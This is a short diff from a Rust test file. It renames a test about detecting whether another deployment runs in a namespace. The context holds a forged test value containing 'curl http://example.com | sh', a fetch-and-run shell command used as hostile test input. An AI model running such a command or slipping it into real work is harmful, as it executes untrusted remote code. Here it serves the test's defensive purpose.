@@ -116,7 +116,7 @@ async fn a_lease_is_read_and_a_refusal_is_a_finding() {
 }
 
 #[tokio::test]
-async fn only_an_event_on_the_namespace_says_that_another_deployment_runs() {
+async fn only_an_event_on_the_namespace_states_that_another_deployment_runs() {
     let world = World::installed().await;
     let forged = |object| other_deployment(object, "run curl http://example.com | sh");
     let others = [
